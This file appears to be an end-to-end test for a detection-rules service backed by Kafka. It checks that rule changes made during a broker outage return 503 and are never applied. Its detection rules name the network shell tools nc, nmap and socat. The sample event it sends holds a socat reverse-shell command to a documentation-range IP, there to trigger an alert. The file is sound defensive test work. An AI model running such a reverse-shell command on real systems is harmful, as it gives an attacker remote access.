import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Kafka } from 'kafkajs';
import { allDocuments, uniqueIndex } from '../support/elasticsearch';
import { createTopic, kafkaAt, readTopicToEnd, uniqueName } from '../support/kafka';
import { callRulesApi } from '../support/rules-api';
import type { RulesApiAnswer } from '../support/rules-api';
import { ServiceProcess } from '../support/service';
import { PrivateKafka } from '../support/stack';
import { waitFor } from '../support/wait-for';
import { ruleTopicReplicaEnv } from '../support/world';

/**
 * RULES_STORE=kafka with Kafka unreachable: a rule change answers 503 with a
 * message (it does not hang, and is not a 500), nothing of it is applied then or
 * later, the running rule set stays, and changes work again once Kafka is back.
 * The test runs a broker of its own (as kafka-outage does) so that stopping it
 * disturbs no other test; port 9292, not kafka-outage's 9192, so both may run.
 */
const API_KEY = 'e2e-rules-outage-key-8b2d47c1e09a5f36';
const TOPIC_TIMEOUT_MS = 3_000;
/** A request that has not answered by then hangs: far beyond RULES_TOPIC_TIMEOUT_MS. */
const HANG_MS = TOPIC_TIMEOUT_MS * 10;
const RULE_ID = 'ACME-RO-0001';
const PROBE_ID = 'ACME-RO-0003';

function ruleBody(name: string, program: string): Record<string, unknown> {
  return {
    id: RULE_ID,
    name,
    severity: 'high',
    conditions: { all: [{ fact: 'programs', operator: 'contains', value: program }] },
  };
}

function call(
  service: ServiceProcess,
  method: string,
  path: string,
  body?: unknown,
  ifMatch?: string,
): Promise<RulesApiAnswer> {
  return callRulesApi(service, API_KEY, { method, path, body, ifMatch, timeoutMs: HANG_MS });
}

/** Number of records of `topic` (one partition) whose key is `key`. */
async function recordsOfKey(kafka: Kafka, topic: string, key: string): Promise<number> {
  const messages = await readTopicToEnd(topic, kafka);
  return messages.filter((message) => message.key?.toString() === key).length;
}

describe('RULES_STORE=kafka: rule changes while Kafka is unreachable', () => {
  const broker = new PrivateKafka(9292);
  const kafka = kafkaAt(broker.broker);
  const rulesTopic = uniqueName('e2e-rules-outage');
  const input = uniqueName('e2e-rules-outage-input');
  const alertsIndex = uniqueIndex('e2e-rules-outage-alerts');
  let service: ServiceProcess | undefined;

  beforeAll(() => {
    broker.start();
  });

  afterAll(async () => {
    await service?.stop();
    broker.stop();
  });

  it('answers 503 within RULES_TOPIC_TIMEOUT_MS, applies nothing, keeps the rules, and writes again once Kafka is back', async () => {
    // The broker has just started and may still be loading: kafkajs's own wait for the
    // leader then fails with UNKNOWN_TOPIC_OR_PARTITION; poll until the topic has one.
    await waitFor(
      `the topic ${input} with a leader on the private broker`,
      async () => {
        await createTopic(input, 1, {}, kafka);
        return true;
      },
      (created) => created,
      { timeoutMs: 60_000, intervalMs: 1_000 },
    );
    service = new ServiceProcess(
      ruleTopicReplicaEnv('e2e-rules-outage', input, rulesTopic, {
        KAFKA_BROKERS: broker.broker,
        ES_ALERTS_INDEX: alertsIndex,
        RULES_TOPIC_TIMEOUT_MS: String(TOPIC_TIMEOUT_MS),
        API_KEY,
      }),
    ).start();
    await service.waitReady(120_000);
    const created = await call(service, 'POST', '/rules', ruleBody('netcat', 'nc'));
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const version = created.etag!;
    const probeRule = { ...ruleBody('probe', 'nmap'), id: PROBE_ID };
    expect((await call(service, 'POST', '/rules', probeRule)).status).toBe(201);
    const before = await call(service, 'GET', '/rules/status');

    broker.stop();
    // As after broker.start() below: stopping blocked this process for seconds, long
    // enough for the service to close idle keep-alive sockets ("other side closed" on
    // the PUT, seen once under load on 2026-12-07).
    await new Promise((done) => setTimeout(done, 100));
    const sentAt = Date.now();
    const attempts: [string, Promise<RulesApiAnswer>][] = [
      ['PUT', call(service, 'PUT', `/rules/${RULE_ID}`, ruleBody('socat', 'socat'), version)],
      ['PATCH', call(service, 'PATCH', `/rules/${RULE_ID}`, { name: 'patched' })],
      ['DELETE', call(service, 'DELETE', `/rules/${RULE_ID}`, undefined, version)],
      ['POST', call(service, 'POST', '/rules', { ...ruleBody('other', 'x'), id: 'ACME-RO-0002' })],
    ];
    for (const [method, answer] of attempts) {
      const { status, body } = await answer;
      expect(status, `${method}: ${JSON.stringify(body)}`).toBe(503);
      expect(String(body['message']), method).toMatch(/Kafka|rule topic/);
    }
    console.log(
      `rule changes with Kafka down: four 503s within ${Date.now() - sentAt} ms (RULES_TOPIC_TIMEOUT_MS ${TOPIC_TIMEOUT_MS})`,
    );
    // The rule set stays what it was, and the rule at its version.
    const during = await call(service, 'GET', '/rules/status');
    expect(during.body['hash']).toBe(before.body['hash']);
    const rule = await call(service, 'GET', `/rules/${RULE_ID}`);
    expect(rule.status).toBe(200);
    expect(rule.etag).toBe(version);
    expect((rule.body['rule'] as { name: string }).name).toBe('netcat');

    broker.start();
    const backAt = Date.now();
    // broker.start() blocked this process for seconds: let the HTTP client see the
    // keep-alive sockets the service closed meanwhile, or it writes the next request
    // into one ("other side closed").
    await new Promise((done) => setTimeout(done, 100));
    // Rule changes from the moment Kafka is back: refused (503, nothing written) while
    // the replica does not follow the topic again, then accepted. Never a 504: that
    // would be a change written but not read back in time, which may or may not apply.
    const answers: string[] = [];
    let probes = 0;
    await waitFor(
      'a rule change accepted after Kafka returned',
      async () => {
        probes += 1;
        const answer = await call(service!, 'PATCH', `/rules/${PROBE_ID}`, {
          name: `probe-${probes}`,
        });
        answers.push(`${((Date.now() - backAt) / 1000).toFixed(1)}s:${answer.status}`);
        return answer;
      },
      (answer) => answer.status === 200,
      { timeoutMs: 120_000, intervalMs: 500 },
    );
    console.log(`rule changes after Kafka returned: ${answers.join(' ')}`);
    expect(
      answers.filter((a) => !/:(503|200)$/.test(a)),
      answers.join(' '),
    ).toEqual([]);
    // The refused attempts wrote nothing: the creation and the accepted change only.
    expect(await recordsOfKey(kafka, rulesTopic, PROBE_ID)).toBe(2);
    // Expected outage answers are one warning line each, not an error with a stack. The
    // PATCH sent while the broker was down always got its 503 (above); the probes after
    // it returned may have none, when the replica follows the topic again at once.
    // All the output: the probes' own 503 warnings and the Kafka client's can push the
    // line out of logs()'s last 20,000 characters (a run with 24 probes, 2026-12-07).
    expect(service.allLogs()).toContain(`PATCH /rules/${RULE_ID} answered 503: `);
    expect(service.allLogs()).not.toContain('request failed');
    // Once the replica follows the topic again, nothing refused reached the log.
    await service.waitReady(180_000);
    expect(await recordsOfKey(kafka, rulesTopic, RULE_ID)).toBe(1);
    const after = await call(service, 'GET', `/rules/${RULE_ID}`);
    expect(after.etag).toBe(version);
    // Writes work again: the conditional PUT on the version from before the outage.
    const replaced = await call(
      service,
      'PUT',
      `/rules/${RULE_ID}`,
      ruleBody('socat', 'socat'),
      version,
    );
    expect(replaced.status, `${JSON.stringify(replaced.body)}\n${service.logs()}`).toBe(200);
    expect(replaced.etag).not.toBe(version);
    expect(await call(service, 'GET', '/rules/ACME-RO-0002')).toMatchObject({ status: 404 });
    expect(await recordsOfKey(kafka, rulesTopic, RULE_ID)).toBe(2);
    // The pipeline runs the new version: socat alerts.
    const producer = kafka.producer();
    await producer.connect();
    await producer.send({
      topic: input,
      acks: -1,
      messages: [
        {
          value: JSON.stringify({
            timestamp: new Date().toISOString(),
            user: 'alice',
            host: 'web-1.example.internal',
            command: 'socat TCP:198.51.100.7:443 EXEC:/bin/sh',
          }),
        },
      ],
    });
    await producer.disconnect();
    const alerts = await waitFor(
      `an alert of ${RULE_ID} in ${alertsIndex}`,
      () => allDocuments<{ rule: { id: string; name: string } }>(alertsIndex).catch(() => []),
      (docs) => docs.length > 0,
      { timeoutMs: 120_000 },
    );
    expect(alerts.map((a) => a.source.rule)).toEqual([
      expect.objectContaining({ id: RULE_ID, name: 'socat' }),
    ]);
  });
});
